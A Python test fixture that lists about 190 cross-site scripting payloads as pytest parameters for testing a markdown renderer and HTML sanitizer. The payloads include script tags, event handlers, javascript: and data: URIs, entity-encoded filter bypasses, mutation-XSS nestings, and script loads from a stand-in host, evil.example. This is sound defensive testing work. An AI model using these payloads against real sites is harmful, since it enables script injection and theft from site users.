"""A corpus of cross-site scripting payloads for the markdown fields and the plain-text fields.

Each entry is `pytest.param(text, id=...)`. Sources: the OWASP XSS filter evasion cheat
sheet, the classic mutation-XSS (mXSS) payloads against HTML sanitizers, and markdown's own
ways to make a link (inline, reference-style, autolink, raw HTML). tests/test_xss.py runs
every one through the renderer, the public pages and the admin preview.

Null bytes are written as \\x00; PostgreSQL cannot store them, so the database tests skip
those payloads there (the admin's forms reject them before they reach the database).
"""

import pytest

PAYLOADS = [
    # ---- Dangerous elements ----
    pytest.param("<script>alert(1)</script>", id="script"),
    pytest.param('<script src="https://evil.example/x.js"></script>', id="script-src"),
    pytest.param("<ScRiPt>alert(1)</sCrIpT>", id="script-mixed-case"),
    pytest.param("<scr<script>ipt>alert(1)</scr</script>ipt>", id="script-nested-split"),
    pytest.param("<script>alert(1)", id="script-unclosed"),
    pytest.param("Before.\n\n<script>\nalert(1)\n</script>\n\nAfter.", id="script-html-block"),
    pytest.param("Inline <script>alert(1)</script> in a paragraph.", id="script-inline"),
    pytest.param('<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>', id="script-slash-attr"),
    pytest.param("<<SCRIPT>alert(1);//<</SCRIPT>", id="script-extra-open-bracket"),
    pytest.param("<SCRIPT SRC=https://evil.example/xss.js?< B >", id="script-no-close-tag"),
    pytest.param('</TITLE><SCRIPT>alert("XSS");</SCRIPT>', id="title-breakout"),
    pytest.param("</textarea><script>alert(1)</script>", id="textarea-breakout"),
    pytest.param('<style>body{background:url("javascript:alert(1)")}</style>', id="style-tag"),
    pytest.param("<style>@import 'https://evil.example/x.css';</style>", id="style-import"),
    pytest.param("<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>", id="style-import-escaped"),
    pytest.param(
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        id="style-list-image",
    ),
    pytest.param('<div style="width: expression(alert(1))">x</div>', id="style-attr-expression"),
    pytest.param('<p style="background:url(javascript:alert(1))">x</p>', id="style-attr-allowed-tag"),
    pytest.param(
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072"
        "\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
        id="style-attr-css-escapes",
    ),
    pytest.param('<XSS STYLE="behavior: url(xss.htc);">', id="style-attr-behavior"),
    pytest.param('<iframe src="javascript:alert(1)"></iframe>', id="iframe-javascript"),
    pytest.param("<iframe src=https://evil.example/scriptlet.html <", id="iframe-unclosed"),
    pytest.param('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', id="iframe-srcdoc"),
    pytest.param('<img srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;" src="x.png">', id="srcdoc-on-img"),
    pytest.param('<object data="javascript:alert(1)"></object>', id="object-data"),
    pytest.param('<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>', id="object-scriptlet"),
    pytest.param(
        '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">', id="embed-data"
    ),
    pytest.param('<base href="javascript:alert(1)//">', id="base-href"),
    pytest.param('<base href="https://evil.example/">[rel](page)', id="base-href-hijack"),
    pytest.param('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', id="meta-refresh-javascript"),
    pytest.param(
        '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
        id="meta-refresh-data",
    ),
    pytest.param('<form action="javascript:alert(1)"><input type="submit"></form>', id="form-action"),
    pytest.param('<form><button formaction="javascript:alert(1)">go</button></form>', id="button-formaction"),
    pytest.param('<input type="image" src="javascript:alert(1)">', id="input-image-src"),
    pytest.param('<link rel="stylesheet" href="javascript:alert(1)">', id="link-stylesheet"),
    pytest.param('<link rel="import" href="https://evil.example/x.html">', id="link-import"),
    pytest.param("<template><script>alert(1)</script></template>", id="template"),
    pytest.param('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', id="noscript-mxss"),
    pytest.param('<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>', id="noembed-mxss"),
    pytest.param('<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>', id="xmp-mxss"),
    pytest.param('<frameset onload=alert(1)><frame src="javascript:alert(1)">', id="frameset"),
    pytest.param('<BGSOUND SRC="javascript:alert(1);">', id="bgsound"),
    pytest.param('<TABLE BACKGROUND="javascript:alert(1)"><TR><TD>x</TD></TR></TABLE>', id="table-background"),
    pytest.param("<isindex type=image src=1 onerror=alert(1)>", id="isindex"),
    pytest.param('<video><source onerror="alert(1)"></video>', id="video-source-onerror"),
    pytest.param("<audio src=x onerror=alert(1)>", id="audio-onerror"),
    pytest.param("<details open ontoggle=alert(1)>x</details>", id="details-ontoggle"),
    pytest.param("<marquee onstart=alert(1)>x</marquee>", id="marquee-onstart"),
    pytest.param('<object><param name="src" value="javascript:alert(1)"></object>', id="object-param"),
    # ---- Event handlers ----
    pytest.param("<img src=x onerror=alert(1)>", id="img-onerror"),
    pytest.param("<img/src=x/onerror=alert(1)>", id="img-onerror-slashes"),
    pytest.param("<img src=`x` onerror=`alert(1)`>", id="img-onerror-backticks"),
    pytest.param("<IMG SRC=x ONERROR=alert(1)>", id="img-onerror-upper"),
    pytest.param("<img src=x onerror=alert(1)//", id="img-onerror-unclosed"),
    pytest.param("<body onload=alert(1)>", id="body-onload"),
    pytest.param('<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>', id="body-onload-junk"),
    pytest.param('<div onmouseover="alert(1)">hover</div>', id="div-onmouseover"),
    pytest.param("<input autofocus onfocus=alert(1)>", id="input-autofocus-onfocus"),
    pytest.param('<a href="https://ok.example" onclick="alert(1)">x</a>', id="a-onclick"),
    pytest.param('<a href="x" title="x"onmouseover=alert(1)>y</a>', id="a-attr-no-space"),
    pytest.param('<p onclick="alert(1)">**bold**</p>', id="p-onclick-markdown"),
    pytest.param('<abbr title="x" onmouseover="alert(1)">HTML</abbr>', id="abbr-onmouseover"),
    pytest.param('<td onmouseover="alert(1)">x</td>', id="td-onmouseover"),
    pytest.param('<a href="https://ok.example" target="_top" onmouseover="alert(1)">x</a>', id="a-target-top"),
    # ---- javascript:, vbscript:, data: in markdown ----
    pytest.param("[x](javascript:alert(1))", id="md-link-javascript"),
    pytest.param("[x](JaVaScRiPt:alert(1))", id="md-link-mixed-case"),
    pytest.param("[x](vbscript:msgbox(1))", id="md-link-vbscript"),
    pytest.param("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", id="md-link-data"),
    pytest.param("[x](<javascript:alert(1)>)", id="md-link-angle-brackets"),
    pytest.param("[x]( javascript:alert(1) )", id="md-link-padded"),
    pytest.param("[x](javascript://%0Aalert(1))", id="md-link-comment-newline"),
    pytest.param("[x](javascript&colon;alert(1))", id="md-link-entity-colon"),
    pytest.param("[x](&#106;avascript:alert(1))", id="md-link-entity-decimal"),
    pytest.param("[x](&#x6A;avascript:alert(1))", id="md-link-entity-hex"),
    pytest.param("[x](java&#x09;script:alert(1))", id="md-link-entity-tab"),
    pytest.param("[x](java&#x0A;script:alert(1))", id="md-link-entity-newline"),
    pytest.param("[x](java&Tab;script&colon;alert(1))", id="md-link-named-entities"),
    pytest.param("[x](java\x00script:alert(1))", id="md-link-null-byte"),
    pytest.param('[x](javascript:alert(1) "title")', id="md-link-with-title"),
    pytest.param("![x](javascript:alert(1))", id="md-image-javascript"),
    pytest.param("![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", id="md-image-data-svg"),
    pytest.param("![x](vbscript:msgbox(1))", id="md-image-vbscript"),
    pytest.param("[x][1]\n\n[1]: javascript:alert(1)", id="md-ref-link-javascript"),
    pytest.param('[x][evil]\n\n[evil]: &#106;avascript:alert(1) "t"', id="md-ref-link-entity"),
    pytest.param("![x][1]\n\n[1]: data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", id="md-ref-image-data"),
    pytest.param("[x]\n\n[x]: vbscript:msgbox(1)", id="md-ref-shortcut-vbscript"),
    pytest.param("<javascript:alert(1)>", id="autolink-javascript"),
    pytest.param("<vbscript:msgbox(1)>", id="autolink-vbscript"),
    pytest.param("<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>", id="autolink-data"),
    pytest.param('<http://a.example/"onmouseover="alert(1)>', id="autolink-quote-breakout"),
    pytest.param("<javascript&#58;alert(1)@example.com>", id="autolink-email-entity"),
    # ---- javascript:, vbscript:, data: in raw HTML ----
    pytest.param('<a href="javascript:alert(1)">x</a>', id="a-javascript"),
    pytest.param('<a href="JaVaScRiPt:alert(1)">x</a>', id="a-mixed-case"),
    pytest.param('<a href="vbscript:msgbox(1)">x</a>', id="a-vbscript"),
    pytest.param('<a href="data:text/html,<script>alert(1)</script>">x</a>', id="a-data-html"),
    pytest.param('<a href="jav&#x09;ascript:alert(1)">x</a>', id="a-entity-tab"),
    pytest.param('<a href="jav&#x0A;ascript:alert(1)">x</a>', id="a-entity-newline"),
    pytest.param('<a href="jav&#x0D;ascript:alert(1)">x</a>', id="a-entity-cr"),
    pytest.param('<a href="java\tscript:alert(1)">x</a>', id="a-literal-tab"),
    pytest.param('<a href="java\nscript:alert(1)">x</a>', id="a-literal-newline"),
    pytest.param('<a href="java\x00script:alert(1)">x</a>', id="a-null-byte"),
    pytest.param('<a href=" &#14;  javascript:alert(1)">x</a>', id="a-leading-control"),
    pytest.param(
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
        id="a-hex-entities",
    ),
    pytest.param(
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116'
        '&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">x</a>',
        id="a-padded-decimal-entities",
    ),
    pytest.param('<a href="javascript&colon;alert(1)">x</a>', id="a-named-colon"),
    pytest.param('<a href="&amp;#106;avascript:alert(1)">x</a>', id="a-double-encoded"),
    pytest.param('<a href="//evil.example/%0Ajavascript:alert(1)">x</a>', id="a-protocol-relative"),
    pytest.param("<IMG SRC=JaVaScRiPt:alert('XSS')>", id="img-javascript-no-quotes"),
    pytest.param("<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>", id="img-fromcharcode"),
    pytest.param("<IMG SRC=\"jav\tascript:alert('XSS');\">", id="img-literal-tab"),
    pytest.param("<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">", id="img-entity-newline"),
    pytest.param('<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', id="img-data-svg"),
    pytest.param("<IMG SRC=\"`<javascript:alert>`('XSS')\"", id="img-backtick-autolink"),
    pytest.param("<img src=x:alert(1) onerror=eval(src)>", id="img-eval-src"),
    pytest.param(
        "<IMG DYNSRC=\"javascript:alert('XSS')\"><IMG LOWSRC=\"javascript:alert('XSS')\">", id="img-dynsrc-lowsrc"
    ),
    # ---- SVG and MathML ----
    pytest.param("<svg onload=alert(1)>", id="svg-onload"),
    pytest.param("<svg/onload=alert('XSS')>", id="svg-onload-slash"),
    pytest.param("<svg><script>alert(1)</script></svg>", id="svg-script"),
    pytest.param("<svg><script href=data:,alert(1) />", id="svg-script-href"),
    pytest.param(
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>', id="svg-xlink-href"
    ),
    pytest.param("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", id="svg-animate-onbegin"),
    pytest.param(
        '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>', id="svg-set-href"
    ),
    pytest.param(
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>", id="svg-foreignobject"
    ),
    pytest.param("<svg><style><img src=x onerror=alert(1)></style></svg>", id="svg-style-mxss"),
    pytest.param("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", id="math-mglyph-style-mxss"),
    pytest.param(
        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style>"
        '<a title="</style><img src onerror=alert(1)>"></style></h1>',
        id="math-nesting-mxss",
    ),
    pytest.param('<math href="javascript:alert(1)">click</math>', id="math-href"),
    pytest.param(
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>', id="math-maction"
    ),
    # ---- Unclosed tags and broken attributes ----
    pytest.param('<img src="x" alt="`"><script>alert(1)</script>', id="img-alt-backtick"),
    pytest.param('<IMG """><SCRIPT>alert("XSS")</SCRIPT>">', id="img-empty-quotes"),
    pytest.param('<a href="javascript:alert(1)', id="a-unclosed-javascript"),
    pytest.param('<a href="x"<script>alert(1)</script>', id="a-unterminated-tag"),
    pytest.param("<img src='x' alt='\"'><img src=x onerror=alert(1)>", id="img-mixed-quotes"),
    pytest.param('<a title="<img src=x onerror=alert(1)>">x</a>', id="attr-value-with-tag"),
    pytest.param('<p title="--><img src=x onerror=alert(1)>">x</p>', id="attr-value-comment-end"),
    pytest.param("<div\n onmouseover\n=\nalert(1)>x</div>", id="handler-newlines"),
    pytest.param("<img src=x on\x00error=alert(1)>", id="handler-null-byte"),
    pytest.param("<scr\x00ipt>alert(1)</scr\x00ipt>", id="script-null-byte"),
    # ---- Markdown link titles, alt text and other markdown syntax ----
    pytest.param('[x](https://ok.example "a\\" onmouseover=\\"alert(1)")', id="md-title-escaped-quote"),
    pytest.param("[x](https://ok.example 'a\" onmouseover=\"alert(1)')", id="md-title-single-quoted"),
    pytest.param('[x](https://ok.example (a" onmouseover="alert(1)))', id="md-title-parens"),
    pytest.param('[x](https://ok.example/" onmouseover="alert(1))', id="md-url-quote-breakout"),
    pytest.param('![x" onerror="alert(1)](https://ok.example/a.png)', id="md-alt-breakout"),
    pytest.param("![<img src=x onerror=alert(1)>](https://ok.example/a.png)", id="md-alt-raw-html"),
    pytest.param('[<img src=x onerror=alert(1)>](https://ok.example "<script>")', id="md-link-text-raw-html"),
    pytest.param("*[HTML]: <img src=x onerror=alert(1)>\n\nHTML is nice.", id="md-abbr-title"),
    pytest.param('*[HTML]: x" onmouseover="alert(1)\n\nHTML is nice.', id="md-abbr-title-quote"),
    pytest.param("Term\n: <script>alert(1)</script>", id="md-deflist-script"),
    pytest.param(
        "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |", id="md-table-cells"
    ),
    pytest.param("`<script>alert(1)</script>`", id="md-code-span"),
    pytest.param("```html\n<script>alert(1)</script>\n```", id="md-fenced-code"),
    pytest.param('```"><script>alert(1)</script>\nx\n```', id="md-fence-info-breakout"),
    pytest.param("    <script>alert(1)</script>", id="md-indented-code"),
    pytest.param("\\<script>alert(1)\\</script>", id="md-backslash-escaped"),
    pytest.param("&lt;script&gt;alert(1)&lt;/script&gt;", id="md-entities-text"),
    pytest.param("\x02wzxhzdk:0\x03<img src=x onerror=alert(1)>", id="md-htmlstash-placeholder"),
    pytest.param('<div markdown="1">[x](javascript:alert(1))</div>', id="md-in-html-attr"),
    # ---- HTML comments, CDATA and processing instructions ----
    pytest.param("<!--<script>alert(1)</script>-->", id="comment-script"),
    pytest.param("<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", id="comment-conditional"),
    pytest.param("<!-- --!><img src=x onerror=alert(1)> -->", id="comment-bang-close"),
    pytest.param("<!--><img src=x onerror=alert(1)>-->", id="comment-abrupt-close"),
    pytest.param("<![CDATA[<script>alert(1)</script>]]>", id="cdata-script"),
    pytest.param("<![CDATA[><img src=x onerror=alert(1)>]]>", id="cdata-img"),
    pytest.param('<?xml-stylesheet type="text/xsl" href="javascript:alert(1)"?>', id="processing-instruction"),
    pytest.param('<!DOCTYPE x [<!ENTITY e "<img src=x onerror=alert(1)>">]>&e;', id="doctype-entity"),
]
